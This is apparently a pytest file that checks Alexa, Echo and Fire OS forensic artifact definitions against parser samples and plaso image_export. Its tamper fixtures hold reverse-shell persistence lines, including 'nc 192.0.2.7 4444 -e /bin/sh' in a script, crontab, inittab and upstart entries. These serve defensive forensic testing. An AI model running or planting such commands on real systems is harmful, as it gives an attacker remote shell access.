"""The ForensicArtifacts definitions: sound, tied to what the parsers read, and followed by plaso's own image_export."""

from __future__ import annotations

import fnmatch
import gzip
import json
import logging
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import artifacts
import pytest
from artifacts.artifact import ArtifactDefinition
from artifacts.reader import YamlArtifactsReader
from artifacts.registry import ArtifactDefinitionsRegistry
from artifacts.scripts.validator import ArtifactDefinitionsValidator

import echoforensics.plaso_plugin
from parsers.parser import Source
from parsers.registry import claiming

DEFINITIONS = Path(echoforensics.plaso_plugin.__file__).parent / "data/artifacts/alexa.yaml"
SHIPPED = Path(artifacts.__file__).parent / "data"

PREFERENCES = b"<?xml version='1.0' encoding='utf-8' standalone='yes' ?>\n<map />\n"
LOG = b"20211231:165212 ASRD[1596]: I WhadGroupLoggingUtil:logGroupMetric:action=wakeWordReceived:\n"
SYSLOG = b"Dec 29 14:10:36 localhost kernel: [   12.0] booted\n"
LOGCAT = b"04-07 17:53:57.748  1714  1714 I ECS_ECService: Received event: WAKE_WORD\n"
NETWORK = b'network={\n\tssid="Home"\n}\n'
REMOTE_SHELL = b"#!/bin/sh\nwhile true; do nc 192.0.2.7 4444 -e /bin/sh; done\n"
PLIST = (
    b'<?xml version="1.0"?><!DOCTYPE plist><plist version="1.0"><dict><key>%b</key><string>a</string></dict></plist>'
)
EVENT = {"event_type": "APP_READY", "timestamp": 1, "session": {"id": "a"}}
SIMPLE_KEY = b"https://pitangui.amazon.com/api/cards"
UUID = "01234567-89ab-cdef-0123-456789abcdef"
ADDRESS = "50:F5:DA:BD:2A:EF"


def _database(table: bytes) -> tuple[str, bytes]:
    return "sqlite", b"SQLite format 3\0".ljust(100, b"\0") + table


#: A sample of each kind of file: which parser claims it, and what it begins with.
KINDS: dict[str, tuple[str, bytes]] = {
    "alarms": _database(b"CREATE TABLE Notifications (id TEXT, client TEXT, type TEXT, time INTEGER, earcon TEXT)"),
    "any database": _database(b""),
    "backup info": ("ios_backup", PLIST % b"Last Backup Date"),
    "backup manifest": ("ios_backup", PLIST % b"IsEncrypted"),
    "backup status": ("ios_backup", PLIST % b"SnapshotState"),
    "backup list": _database(b"CREATE TABLE Files (fileID TEXT, domain TEXT, relativePath TEXT, flags INT)"),
    "bluetooth names": ("bluez_folder", b"D8:E0:E1:2F:E7:7D [TV] Samsung\n"),
    "bluetooth peer": ("bluez_storage", b"[General]\nName=TV\n"),
    "bluetooth list": ("echo_btmd", b""),
    "calendar": _database(b"CREATE TABLE Events (_id, calendar_id, title, dtstart INTEGER, eventTimezone TEXT)"),
    "chromium block": ("chromium_blockfile_companions", b"\xc3\xca\x04\xc1"),
    "chromium index": ("chromium_simple_index", bytes(8) + b"\x6f\x79\x20\x72\x65\x74\x6e\x65"),
    "chromium entry": ("chromium_simple_cache", bytes.fromhex("305c72a71b6dfbfc05000000") + len(SIMPLE_KEY).to_bytes(
        4, "little") + bytes(8) + SIMPLE_KEY),
    "cookies": _database(b"CREATE TABLE cookies (creation_utc, host_key, name, expires_utc, last_access_utc)"),
    "cookie jar": ("binary_cookies", b"cook" + bytes(8)), "counter": ("echo_log_counter", b"00003921"),
    "cron table": ("state_files", b"*/15 * * * * /usr/local/bin/save-the-date\n"),
    "datastore": ("datastore_preferences", b"\x0a\x07\x0a\x01a\x12\x02\x08\x01"),
    "data store": _database(b"CREATE TABLE DataItem (key TEXT PRIMARY KEY, value TEXT)"),
    "events": ("app_events", json.dumps(EVENT).encode() + b"\n"),
    "history": _database(b"CREATE TABLE urls (id, url LONGVARCHAR, title, visit_count INT, last_visit_time INTEGER)"),
    "image": ("glide_journal", b"\xff\xd8\xff\xe0"), "ios preferences": ("ios_preferences", PLIST % b"a"),
    "journal": ("glide_journal", b"libcore.io.DiskLruCache\n1\n1\n1\n\n"),
    "leveldb": ("leveldb_storage", b"MANIFEST-000001\n"),
    "log": ("echo_messages", LOG), "logcat": ("fireos_log", LOGCAT),
    "logins": _database(b"CREATE TABLE logins (origin_url, username_value, password_value BLOB, date_created INTEGER)"),
    "map": _database(b"CREATE TABLE accounts (_id INTEGER, directed_id TEXT UNIQUE, display_name TEXT)"),
    "metrics": ("echo_metrics_batch", b"\x0a\x20" + b"a" * 32 + b"\x12\x0eAB72C64C86AW2X\x1a\x07DOPPLER"),
    "notification log": _database(b"CREATE TABLE log (_id, event_type INT, event_time_ms INT, pkg TEXT, when_ms INT)"),
    "okhttp body": ("okhttp_cache", b"\x1f\x8b"),
    "packages": ("android_packages", b"com.amazon.dee.app 10061 0 /data/data/com.amazon.dee.app\n"),
    "policy": ("speech_policy", b"{}"), "preferences": ("android_preferences", PREFERENCES),
    "property": ("android_property", b"Europe/Berlin"),
    "realm": ("realm_file", bytes(16) + b"T-DB" + bytes(4)), "registration": ("echo_registration", b"{}"),
    "remote shell": ("tamper", REMOTE_SHELL),
    "remote crontab": ("tamper", b"* * * * * nc 192.0.2.7 4444 -e /bin/sh\n"),
    "remote inittab": ("tamper", b"a:2345:respawn:/bin/nc 192.0.2.7 4444 -e /bin/sh\n"),
    "remote upstart": ("tamper", b"start on startup\nexec nc 192.0.2.7 4444 -e /bin/sh\n"),
    "screen": ("task_snapshot", b"\xff\xd8\xff"),
    "settings": ("android_settings_xml", b"<?xml version='1.0'?>\n<settings version=\"1\"></settings>\n"),
    "smart home": ("echo_smarthome", b"{}"),
    "state audio": ("state_files", b"Not Muted\n"),
    "state date": ("state_files", b"010601302022.02\n"),
    "state digest": ("state_files", b"a" * 64 + b"  /var/local/appreg.db.base\n"),
    "state earcon": ("state_files", b"/usr/share/earcon/doppler/en-GB"),
    "state guid": ("state_files", b"a" * 32),
    "state hotspots": ("state_files", b"Partner, none, gb, somewhere\n"),
    "state hosts": ("state_files", b"127.0.0.1 localhost\n"),
    "state identifier": ("state_files", b"a" * 32 + b"\n"),
    "state microphones": ("state_files", b"-1.5 # dB\n"),
    "state name": ("state_files", b"amazon-1a2b3c4d5\n"),
    "state number": ("state_files", b"4\n"),
    "syslog": ("echo_syslog", SYSLOG),
    "visual id": ("visual_id", b"{}"),
    "voice message": ("recording", b"RIFF" + (36).to_bytes(4, "little") + b"WAVEfmt "),
    "wireless": ("echo_wifi", NETWORK),
    "wireless store": ("wifi_store", b"<?xml version='1.0'?>\n<WifiConfigStoreData></WifiConfigStoreData>"),
}  # fmt: skip

ECHO = ("/var/local", "/local", "")
VAR = ("/var", "")
APPS = ("/data/data", "/data/user/0", "/data", "/user/0")
DATA = ("/data", "")
IOS = ("/private/var/mobile", "/mobile")
WEB_VIEW = "com.amazon.dee.app/app_webview"
CACHED = "com.amazon.dee.app/cache/WebView/Default/HTTP Cache"
SILK = "com.amazon.cloud9/app_amazon_webview/amazon_webview"
CHROME = "com.android.chrome"
STORES = ("Local Storage/leveldb", "Session Storage", "IndexedDB/https_alexa.amazon.com_0.indexeddb.leveldb")
CONTAINER = "Containers/Data/Application/0A1B"
SHARED = "Containers/Shared/AppGroup/0A1B"
ENTRY = "0123456789abcdef_0"
OKHTTP, GLIDE = "0" * 32 + ".1", "0" * 64 + ".0"

#: Where the files of a kind lie: folders, then names below each of them.
SAMPLES: tuple[tuple[str, tuple[str, ...], tuple[str, ...]], ...] = (
    ("bluetooth list", ECHO, ("btmd/devices.proto",)),
    ("bluetooth names", ECHO, (f"lib/bluetooth/{ADDRESS}/names",)),
    ("bluetooth peer", ECHO, (f"lib/bluetooth/{ADDRESS}/D8:E0:E1:2F:E7:7D/info",)),
    ("bluetooth names", ("/var",), (f"lib/bluetooth/{ADDRESS}/lastseen",)),
    ("bluetooth peer", ("/var",), (f"lib/bluetooth/{ADDRESS}/settings", f"lib/bluetooth/{ADDRESS}/cache/{ADDRESS}")),
    ("log", ECHO, ("log/messages_00003921_20211231170000.gz",)),
    ("log", VAR, ("log/messages",)),
    ("syslog", ECHO, tuple(f"log/{n}_00000001_20211231170000.gz" for n in (
        "auth", "bluetooth.log", "crash_dumptrace", "cron.log", "daemon", "kern", "metrics_generic", "syslog", "user",
    ))),
    ("syslog", VAR, tuple(f"log/{n}" for n in (
        "auth.log", "bluetooth.log", "cron.log", "daemon.log", "kern.log", "metrics_generic", "syslog", "user.log",
    ))),
    ("counter", ECHO, ("log/IUpnpInfoFile.txt_youngest", "log/IUpnpInfoFile.txt_oldest", "log/nexttosendfile")),
    ("metrics", ECHO, ("metrics_outbox/metrics_batch_0_001640969532",)),
    ("registration", ECHO, ("token/registrationInfo.json", "token/token.txt")),
    ("smart home", ECHO, ("smarthomed/settings.json", f"smarthomed/{UUID}/schema.json")),
    ("alarms", ECHO, ("alarmd/alarms.db", "cmbd/cmbd.db", "gadgetsd/databases/gadget_device.db")),
    ("remote shell", ECHO, ("test-hook.d/S99x",)),
    ("remote shell", ("/etc",), ("init.d/x", "rc.local")),
    ("remote shell", ("/var",), ("rev.sh",)),
    ("remote upstart", ("/etc",), ("init/x.conf",)),
    ("remote crontab", ("/etc",), ("crontabs/root",)),
    ("remote inittab", ("/etc",), ("inittab",)),
    ("cron table", VAR, ("spool/cron/root", "spool/cron/crontabs/root")),
    ("state date", ECHO, ("last-known-date",)),
    ("state digest", ECHO, ("appreg.db.base.sha256",)),
    ("state earcon", ECHO, ("earcon",)),
    ("state guid", ECHO, ("system/guid",)),
    ("state hosts", ECHO, ("hosts",)),
    ("state identifier", VAR, ("lib/dbus/machine-id",)),
    ("state name", ECHO, ("hostname",)),
    ("state number", ECHO, ("system/volume", "system/mute_state", "version", "system/persist/booting")),
    ("state audio", ECHO, ("system/audiodVolumes",)),
    ("state hotspots", ECHO, ("system/hid.csv",)),
    ("state microphones", ECHO, ("system/micPwrOffset",)),
    ("wireless", ECHO, ("system/wifid.conf", "system/wpa_supplicant.conf")),
    ("wireless", DATA, ("misc/wifi/wpa_supplicant.conf",)),
    ("wireless store", DATA, ("misc/wifi/WifiConfigStore.xml", "misc/apexdata/com.android.wifi/WifiConfigStore.xml")),
    ("preferences", APPS, tuple(f"{app}/shared_prefs/any.xml" for app in (
        "amazon.speech.sim", "com.amazon.alexa.identity", "com.amazon.alta.h2clientservice", "com.amazon.aria",
        "com.amazon.cardinal", "com.amazon.cloud9", "com.amazon.dcp", "com.amazon.device.software.ota",
        "com.amazon.edgecvs", "com.amazon.gloria.smarthome", "com.amazon.identity.auth", "com.amazon.imp",
        "com.amazon.knight.calendar", "com.amazon.tahoe", "com.amazon.zordon", "com.amazon.dee.app",
    ))),
    ("any database", APPS, tuple(f"{app}/databases/any.db" for app in (
        "amazon.speech.sim", "com.amazon.alexa.identity", "com.amazon.alta.h2clientservice", "com.amazon.aria",
        "com.amazon.avod", "com.amazon.cardinal", "com.amazon.clouddrive.photos", "com.amazon.comms.knightcalling",
        "com.amazon.edgecvs", "com.amazon.gloria.smarthome", "com.amazon.imp", "com.amazon.knight.calendar",
        "com.amazon.multimodal.gravity", "com.amazon.photos", "com.amazon.zordon", "com.amazon.dee.app",
    ))),
    ("any database", ("/data/securedStorageLocation", "/securedStorageLocation"), (
        "com.amazon.alta.h2clientservice/databases/alta.h2clientservice.db",
    )),
    ("any database", APPS, (
        "com.amazon.alexahybridremoteskill/files/customerHomeRegistry.db",
        "com.amazon.avod/files/databases/dbplaybackhistory",
    )),
    ("map", APPS, tuple(f"{app}/databases/map_data_storage_v2.db" for app in (
        "com.amazon.dcp", "com.amazon.device.messaging", "com.amazon.identity.auth", "com.amazon.tahoe",
    ))),
    ("journal", APPS, tuple(f"{app}/cache/image_manager_disk_cache/journal" for app in (
        "com.amazon.alexa.identity", "com.amazon.alta.h2clientservice", "com.amazon.aria", "com.amazon.cardinal",
        "com.amazon.cloud9", "com.amazon.dcp", "com.amazon.device.messaging", "com.amazon.edgecvs",
        "com.amazon.gloria.smarthome", "com.amazon.identity.auth", "com.amazon.imp", "com.amazon.knight.calendar",
        "com.amazon.tahoe", "com.amazon.zordon", "com.amazon.dee.app",
    ))),
    ("image", APPS, tuple(f"{app}/cache/image_manager_disk_cache/{GLIDE}" for app in (
        "com.amazon.alexa.identity", "com.amazon.alta.h2clientservice", "com.amazon.aria", "com.amazon.cardinal",
        "com.amazon.cloud9", "com.amazon.dcp", "com.amazon.device.messaging", "com.amazon.edgecvs",
        "com.amazon.gloria.smarthome", "com.amazon.identity.auth", "com.amazon.imp", "com.amazon.knight.calendar",
        "com.amazon.tahoe", "com.amazon.zordon",
    ))),
    ("okhttp body", APPS, (f"com.amazon.dee.app/cache/http/{OKHTTP}",)),
    ("cookies", APPS, (f"{SILK}/Cookies",)),
    ("history", APPS, (f"{SILK}/History",)),
    ("logins", APPS, (f"{SILK}/Login Data",)),
    ("chromium entry", APPS, (f"{SILK}/Cache/{ENTRY}",)),
    ("chromium index", APPS, (f"{SILK}/Cache/index-dir/the-real-index",)),
    ("logcat", DATA, ("logd/Log.main_0", "system/dropbox/Log.main@1680889999000.txt")),
    ("screen", DATA, ("system_ce/0/snapshots/12.jpg",)),
    ("calendar", APPS, ("com.android.providers.calendar/databases/calendar.db",)),
    ("notification log", DATA, ("system/notification_log.db",)),
    ("any database", APPS, (
        "com.android.providers.settings/databases/settings.db", "com.amazon.headlessbeacon/databases/x.db",
    )),
    ("any database", DATA, ("system/users/0/accounts.db", "system_ce/0/accounts_ce.db", "system_de/0/accounts_de.db")),
    ("packages", DATA, ("system/packages.list",)), ("policy", DATA, ("media/0/csm/policy.json",)),
    ("property", DATA, ("property/persist.sys.timezone",)), ("settings", DATA, ("system/users/0/settings_global.xml",)),
    ("leveldb", APPS, tuple(f"{folder}/{name}/CURRENT" for name in STORES for folder in (
        WEB_VIEW, f"{WEB_VIEW}/Default", SILK, f"{CHROME}/app_chrome/Default",
    ))),
    ("visual id", APPS, (f"com.amazon.edgecvs/files/album/{UUID}/{UUID}.json",)),
    ("visual id", APPS, (f"com.amazon.edgecvs/files/album/{UUID}.json",)),
    ("events", APPS, ("com.amazon.dee.app/app_901ad8be-d34d/events/eventsFile",)),
    ("voice message", APPS, ("com.amazon.dee.app/cache/sound", "com.amazon.dee.app/files/audio_cache/a.1")),
    ("cookies", APPS, (f"{WEB_VIEW}/Cookies", f"{WEB_VIEW}/Default/Cookies")),
    ("chromium entry", APPS, (
        f"{WEB_VIEW}/Cache/{ENTRY}", f"{WEB_VIEW}/Default/Cache/{ENTRY}", f"{CACHED}/Cache_Data/{ENTRY}",
        f"{CACHED}/{ENTRY}", f"com.amazon.dee.app/cache/org.chromium.android_webview/{ENTRY}",
    )),
    ("chromium index", APPS, (
        f"{WEB_VIEW}/Cache/index-dir/the-real-index", f"{CACHED}/Cache_Data/index-dir/the-real-index",
        "com.amazon.dee.app/cache/org.chromium.android_webview/index-dir/the-real-index",
    )),
    ("chromium block", APPS, (
        f"{WEB_VIEW}/Application Cache/Cache/data_0", f"{WEB_VIEW}/Default/Application Cache/Cache/data_0",
    )),
    ("datastore", APPS, ("com.amazon.dee.app/files/datastore/settings.preferences_pb",)),
    ("realm", APPS, ("com.amazon.dee.app/files/default.realm",)),
    ("any database", APPS, (f"{WEB_VIEW}/Local Storage/https_alexa.amazon.com_0.localstorage",)),
    ("cookie jar", IOS, (f"{CONTAINER}/Library/Cookies/Cookies.binarycookies",)),
    ("ios preferences", IOS, tuple(f"{CONTAINER}/Library/Preferences/com.amazon.{n}.plist" for n in (
        "alexa", "dee", "echo",
    ))),
    ("ios preferences", IOS, tuple(f"{SHARED}/Library/Preferences/group.com.amazon.{n}.plist" for n in (
        "alexa", "dee", "echo",
    ))),
    ("voice message", IOS, (f"{CONTAINER}/Documents/Record-1.m4a", f"{CONTAINER}/Documents/Download_1.m4a")),
    ("data store", IOS, (f"{CONTAINER}/Documents/LocalData.sqlite", f"{SHARED}/LocalData.sqlite")),
    ("any database", IOS, (
        f"{CONTAINER}/Documents/AlexaMobileiOSComms.sqlite", f"{SHARED}/AlexaMobileiOSComms.sqlite",
    )),
    ("cookies", APPS, (f"{CHROME}/app_chrome/Default/Cookies",)),
    ("history", APPS, (f"{CHROME}/app_chrome/Default/History",)),
    ("logins", APPS, (f"{CHROME}/app_chrome/Default/Login Data",)),
    ("chromium entry", APPS, (f"{CHROME}/cache/Cache/{ENTRY}",)),
    ("chromium index", APPS, (f"{CHROME}/cache/Cache/index-dir/the-real-index",)),
)  # fmt: skip

#: Files beside those that no definition takes out.
OTHERS = (
    "/etc/passwd", "/etc/init/readme.txt", "/var/local/log/other.txt", "/var/local/system/other", "/log/other.log",
    "/var/log/udhcpc.log", "/data/data/com.example.app/databases/any.db", "/data/data/com.amazon.dee.app/files/any",
    "/data/data/com.amazon.mShop.android.shopping/shared_prefs/any.xml", "/data/misc/wifi/softap.conf",
    "/data/media/0/com.amazon.dee.app/readme.txt", "/private/var/mobile/Library/SMS/sms.db",
)  # fmt: skip


def _samples() -> Iterator[tuple[str, str]]:
    """Each sample's path and kind."""
    for kind, folders, names in SAMPLES:
        yield from ((f"{folder}/{name}", kind) for folder in folders for name in names)


def _definitions() -> list[ArtifactDefinition]:
    return list(YamlArtifactsReader().ReadFile(str(DEFINITIONS)))


def _patterns(name: str = "") -> dict[str, str]:
    """The paths with the name of their definition, of those whose name begins so; of files on the device itself."""
    return {
        path: definition.name
        for definition in _definitions()
        for source in definition.sources
        if source.type_indicator == "FILE" and definition.name.startswith(name)
        for path in source.paths
        if not path.startswith("%%")
    }


def _matches(pattern: str, path: str) -> bool:
    """Whether a path is meant, segment by segment, as ForensicArtifacts says of globs."""
    if "/**3/" in pattern:
        return any(_matches(pattern.replace("/**3/", "/" + "*/" * count), path) for count in (1, 2, 3))
    wanted, found = pattern.lower().split("/"), path.lower().split("/")
    return len(wanted) == len(found) and all(map(fnmatch.fnmatchcase, found, wanted))


def test_the_validator_of_forensic_artifacts_accepts_them(caplog: pytest.LogCaptureFixture) -> None:
    validator = ArtifactDefinitionsValidator()
    with caplog.at_level(logging.WARNING):
        assert all(validator.CheckFile(str(path)) for path in sorted(SHIPPED.glob("*.yaml")))
        caplog.clear()
        assert validator.CheckFile(str(DEFINITIONS))

    assert caplog.messages == []
    assert validator.GetUndefinedArtifacts() == set()


def test_no_name_is_one_that_forensic_artifacts_ships() -> None:
    registry = ArtifactDefinitionsRegistry()
    registry.ReadFromDirectory(YamlArtifactsReader(), str(SHIPPED))

    for definition in _definitions():
        assert definition.name.startswith("Alexa")
        assert registry.GetDefinitionByName(definition.name) is None
        assert registry.GetDefinitionByAlias(definition.name) is None
        registry.RegisterDefinition(definition)


def test_the_groups_hold_every_definition() -> None:
    by_name = {definition.name: definition for definition in _definitions()}

    def members(name: str) -> set[str]:
        if name not in by_name:
            return set()
        (source, *others) = by_name[name].sources
        if source.type_indicator == "FILE":
            return {name}
        assert not others
        return {name}.union(*map(members, source.names))

    assert members("AlexaEcosystem") == set(by_name)


def test_each_sample_is_claimed_by_the_parser_that_it_is_a_sample_for() -> None:
    for path, kind in _samples():
        parser, content = KINDS[kind]
        # A compressed file is offered to the parsers under the name of what is in it.
        source = Source.of(content, path.lstrip("/").removesuffix(".gz"))
        assert parser in [claiming_it.name for claiming_it in claiming(source)], path


def test_each_pattern_means_a_sample_and_each_sample_is_meant() -> None:
    patterns, samples = _patterns(), dict(_samples())

    assert [pattern for pattern in patterns if not any(_matches(pattern, path) for path in samples)] == []
    assert [path for path in samples if not any(_matches(pattern, path) for pattern in patterns)] == []
    assert [path for path in OTHERS if any(_matches(pattern, path) for pattern in patterns)] == []


def test_lists_of_backups_are_found_by_what_the_parser_knows() -> None:
    (definition,) = (found for found in _definitions() if found.name == "AlexaCompanionAppIOSBackupFiles")
    kinds = {"Info.plist": "info", "Manifest.plist": "manifest", "Status.plist": "status", "Manifest.db": "list"}

    for source in definition.sources:
        assert {path.rsplit(source.separator, 1)[1] for path in source.paths} == set(kinds)
    for name, kind in kinds.items():
        parser, content = KINDS[f"backup {kind}"]
        assert parser in [found.name for found in claiming(Source.of(content, f"Backup/0a1b/{name}"))]


def test_a_data_partition_alone_gives_what_a_whole_file_system_gives() -> None:
    echo, fire = _patterns("AlexaEchoFirstGeneration"), _patterns("AlexaFireOS")

    for path in echo:
        if path.startswith("/var/local/"):
            assert {path.removeprefix("/var"), path.removeprefix("/var/local")} <= set(echo)
        elif path.startswith("/var/") and not path.endswith(".sh"):
            assert path.removeprefix("/var") in echo or path.startswith("/var/lib/bluetooth/")
    for path in fire:
        if not path.startswith("/**3/"):
            assert path.removeprefix("/data") in fire
            assert path.startswith("/data/") or f"/data{path}" in fire


def _image(folder: Path, make_image: Callable[..., Path]) -> Path:
    for path, kind in [*_samples(), *((other, "log") for other in OTHERS)]:
        content = KINDS[kind][1]
        target = folder / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(gzip.compress(content) if path.endswith(".gz") else content)
    return make_image(folder, mebibytes=16)


def test_image_export_takes_out_exactly_these_files(tmp_path: Path, make_image: Callable[..., Path]) -> None:
    image = _image(tmp_path / "files", make_image)

    for name, prefix in (("AlexaEcosystem", ""), ("AlexaFireOSLogFiles", "AlexaFireOSLogFiles")):
        target = tmp_path / name
        command = [
            sys.executable, "-m", "plaso.scripts.image_export", "--quiet", "--unattended", "--include_duplicates",
            "--no_hashes", "--custom_artifact_definitions", DEFINITIONS, "--artifact_filters", name, "-w", target,
            "--logfile", tmp_path / "export.log.gz", image,
        ]  # fmt: skip
        subprocess.run(
            [*map(str, command)], check=True, capture_output=True, cwd=tmp_path, env={**os.environ, "TZ": "UTC"}
        )
        found = {f"/{path.relative_to(target)}" for path in target.rglob("*") if path.is_file()} - {"/hashes.json"}
        patterns = _patterns(prefix)
        wanted = {path for path, _ in _samples() if any(_matches(pattern, path) for pattern in patterns)}
        # image_export writes an underscore for a colon and an at sign.
        assert sorted(found) == sorted(path.replace(":", "_").replace("@", "_") for path in wanted)
        assert len(wanted) > 1
